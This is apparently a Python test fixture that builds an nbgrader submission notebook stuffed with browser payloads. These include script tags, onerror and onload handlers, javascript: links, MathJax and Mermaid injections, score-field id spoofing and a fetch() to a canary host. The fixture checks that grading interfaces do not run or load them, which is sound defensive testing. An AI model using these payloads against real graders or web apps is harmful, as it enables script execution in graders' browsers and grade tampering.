"""A submission that tries whatever could run, load or mislead in the browser of who grades it."""

from __future__ import annotations

import copy

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

PIXEL = (  # an orange square
    "iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAIAAABvFaqvAAAAIUlEQVR4nGO8GsdAFcBEHWNGDRo1aNSgUYNGDRo1iBIAAN8HAWNu"
    "u8vZAAAAAElFTkSuQmCC"
)
RUN = "window.pwned=1;document.title='pwned';fetch('CANARY/ran')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
# Each is tried as an answer in Markdown, and the HTML among them as the output of a cell too.
HTML = (
    f"<script>{RUN}</script>",
    f'<img src="CANARY/img" onerror="{RUN}">',
    f'<img src=x onerror="{RUN}">',
    SVG,
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="CANARY/frame"></iframe><object data="CANARY/object"></object><embed src="CANARY/embed">',
    '<meta http-equiv="refresh" content="0; url=CANARY/refresh">',
    '<link rel="stylesheet" href="CANARY/style.css"><style>@import url(CANARY/import.css);'
    "input{background:url(CANARY/css)} .score{display:none}</style>",
    f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{RUN}"><form action="CANARY/form"><button>Save</button></form>',
    '<base href="CANARY/base/"><h1 id="slope_test">score</h1><video src="CANARY/video" autoplay></video>',
)
MARKDOWN = (
    f"[run](javascript:{RUN}) [me](java&#115;cript&colon;{RUN}) [now](data:text/html,<script>{RUN}</script>)",
    "![fetched](CANARY/markdown.png) ![by reference][canary]\n\n[canary]: CANARY/reference.png 'title'",
    "![configured](/formgrader/?path=submitted/eve/mini) [a solution](/formgrader/?path=submitted/eve/mini)",
    f'```mermaid\nflowchart LR\n a[<img src=x onerror={RUN}>] --> b\n click a href "javascript:{RUN}"\n```',
    "![vector](attachment:vector.svg) ![page](attachment:page.html) ![drawing](attachment:drawing.png)",
)
# What JupyterLab's MathJax loads, in a cell without the formulas that it may refuse.
LOADING = "$\\unicode[x;background:url(CANARY/tex)]{x41}$"
STYLED = (
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\class{{a}}{{y}}$ $\\mmlToken{{mglyph}}[src='CANARY/glyph']{{v}}$ "
    "$\\style{background:url(CANARY/style);position:fixed}{z}$ $\\require{HTML}\\cssId{slope_test}{w}$"
)
# Formgrader finds score fields by id, and a heading's text is its id: points given here would go there too.
HEADINGS = "# slope_test\n\ndouble_test\n===\n\n> ## slope_test\n"
ATTACHED = {
    "vector.svg": {"image/svg+xml": SVG},
    "page.html": {"text/html": HTML[0]},
    "drawing.png": {"image/png": PIXEL, "text/html": HTML[0]},
}
SHOW = """
from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display
html, run, svg, pixel = {names}
for text in html:
    display(HTML(text), Markdown(text))
    print(text)
display(Javascript(run), SVG(svg), IFrame("CANARY/iframe", 10, 10))
display({{"text/html": html[0], "text/plain": "<Figure>", "image/png": pixel}}, raw=True)
display({{"image/png": '">' + html[0], "text/latex": "$\\\\href{{javascript:" + run + "}}{{x}}$"}}, raw=True)
widget = "application/vnd.jupyter.widget-view+json"
display({{widget: {{"model_id": html[0], "version_major": 2}}, "application/json": html}}, raw=True)
print("\\x1b]8;;javascript:" + run + "\\x07click\\x1b]8;;\\x07", "CANARY/formgrader/?path=submitted/eve/mini")
raise ValueError(html[0])
"""
CONFIG = "open('pwned', 'w').close()\n"  # what nbgrader runs when it is led to this folder


def notebook(released: NotebookNode, canary: str) -> NotebookNode:
    """`released` with half of its answers and every trick; `canary` is an address where nobody should go."""
    submitted = copy.deepcopy(released)
    for cell in submitted.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name == "double":
            cell.source = "def double(x):\n    return 2 * x"
        elif name in ("opinion", "question"):
            formulas = LOADING if name == "opinion" else STYLED
            cell.source = "\n\n".join((HEADINGS, "An answer in words.", formulas, *MARKDOWN, *HTML))
            cell.attachments = ATTACHED
        elif cell.id == "hour":
            data = {"text/html": HTML[0], "image/svg+xml": SVG, "image/png": PIXEL}
            cell.outputs = [new_output("display_data", data=data)]
    show = SHOW.format(names=repr((HTML, RUN, SVG, PIXEL)))
    submitted.cells += [new_code_cell(show), new_markdown_cell(HTML[0])]
    submitted.metadata.title = f"</title>{HTML[0]}"
    return _with(submitted, canary)


def _with(node, canary: str):
    if isinstance(node, dict):
        return type(node)({name: _with(value, canary) for name, value in node.items()})
    if isinstance(node, list):
        return [_with(value, canary) for value in node]
    return node.replace("CANARY", canary) if isinstance(node, str) else node
